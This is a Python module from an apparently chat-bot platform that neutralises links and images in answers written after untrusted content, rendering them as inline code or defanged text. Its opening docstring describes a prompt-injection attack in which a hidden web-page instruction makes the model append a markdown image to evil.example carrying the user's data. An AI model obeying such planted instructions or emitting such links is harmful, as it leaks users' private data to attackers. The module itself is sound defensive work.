"""Links in an answer written after untrusted content, made text that nothing fetches.

An instruction hidden in a web page can ask the model to end its answer with
``![](http://evil.example/?q=<the user's data>)``: a platform that previews or embeds the link,
or a client that loads the picture, sends the data without anyone clicking. For such an answer
(:class:`engine.Untrusted`) every link, picture and bare URL whose host trusted text did not
name is shown as its text instead, in a form the platform does not link: inline code on Discord
(Telegram's renderer does the same in its syntax tree, ``telegram/_markdown.py``), a defanged
``hxxp://evil[.]example`` in a terminal, which links anything that starts with a scheme.

The Markdown is rewritten as text, one pass of one pattern, outside code (fences and spans are
kept as they are: no platform links inside them).
"""

from __future__ import annotations

import re
from collections.abc import Callable

from engine import Untrusted

# A URL as platforms find them in text: with a scheme, or www., or a host followed by a path.
_CHARS = r"""[^\s<>()\[\]`'"]"""  # what a URL found in text runs on with
URL = (
    rf"(?:(?:https?|ftp|tg|mailto):{_CHARS}+|www\.{_CHARS}+"
    rf"|(?:[A-Za-z0-9-]+\.)+[A-Za-z]{{2,}}(?::\d+)?[/?#]{_CHARS}*)"
)
BARE_URL = re.compile(URL, re.I)
_LABEL = r"(?:[^\[\]\n]|\[[^\[\]\n]*\])*"  # one level of brackets inside a label
_MARKDOWN = re.compile(
    rf"(?P<code>```.*?(?:```|\Z)|`+[^`]*`+)"  # fences and spans: kept
    rf"|(?P<bang>!?)\[(?P<label>{_LABEL})\]\(\s*<?(?P<href>[^\s)>]+)>?"
    rf"(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)"  # an inline link or image
    rf"|<(?P<auto>(?:https?|ftp|tg|mailto):[^\s>]+)>"  # an autolink
    rf"|(?P<bare>{URL})",
    re.S | re.I,
)


def fetchable(url: str, untrusted: Untrusted) -> bool:
    """True when `url` (found in text, perhaps without a scheme) may stay a link."""
    return untrusted.links_to(url if "://" in url else f"http://{url}")


def unfetchable(text: str, untrusted: Untrusted) -> bool:
    """Whether plain `text` names a URL that may not stay a link (a platform would link it)."""
    return any(not fetchable(m[0], untrusted) for m in BARE_URL.finditer(text))


def unlinked(markdown: str, untrusted: Untrusted, shown: Callable[[str], str]) -> str:
    """`markdown` with each link, picture and URL that may not stay a link replaced by
    ``shown(url)`` (a link keeps its label before it); the rest, code included, unchanged."""

    def one(m: re.Match[str]) -> str:
        if m["code"] is not None:
            return m[0]
        url = m["href"] or m["auto"] or m["bare"]
        if fetchable(url, untrusted):
            return m[0]
        if m["href"] is None:
            return shown(url)
        label = m["label"].strip() or ("image" if m["bang"] else "")
        return f"{label} ({shown(url)})" if label else shown(url)

    return _MARKDOWN.sub(one, markdown)


def as_code(url: str) -> str:
    """`url` as Markdown inline code: shown whole, never linked (Discord)."""
    fence = "``" if "`" in url else "`"
    return f"{fence}{url}{fence}" if fence == "`" else f"{fence} {url} {fence}"


def defanged(url: str) -> str:
    """`url` as security advisories write one that must not be followed: ``hxxp://evil[.]ex``
    (terminals link text that starts with a scheme or www.)."""
    scheme, sep, rest = url.partition("://")
    if not sep:
        scheme, rest = "", url
    host, slash, path = rest.partition("/")
    host = host.replace(".", "[.]")
    scheme = scheme.replace("t", "x") if scheme.lower().startswith("http") else scheme
    return f"{scheme}{'[:]//' if sep else ''}{host}{slash}{path}"
